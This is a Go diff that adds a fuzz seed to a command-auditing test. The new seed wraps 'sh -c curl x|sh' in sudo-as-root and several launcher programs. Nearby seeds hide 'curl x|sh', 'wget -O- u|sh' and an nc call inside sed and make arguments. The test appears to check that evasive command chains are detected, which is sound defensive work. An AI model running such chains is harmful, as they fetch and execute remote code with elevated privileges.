@@ -80,6 +80,7 @@ var fuzzSeeds = [][]string{
 	{"jbang", "--insecure", "--deps", "a:b:1.+,c:d", "-j17", "run", "-Dk=v", "m@org/cat", "--repos", "r=http://x"},
 	{"sed", "-ne", "/a\\/b/I,+2{s|x|y|gpe;e curl x|sh\n}", "f"},
 	{"make", "-E", "X != wget -O- u|sh\nall:\n\t@echo $(shell nc h 1) $$H", "all"},
+	{"timeout", "-vk", "5", "10", "sudo", "-Eu", "root", "dumb-init", "-cr", "15:2", "conhost", "--width", "8", "pcalua", "-a", "sh", "-c", "-c curl x|sh"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
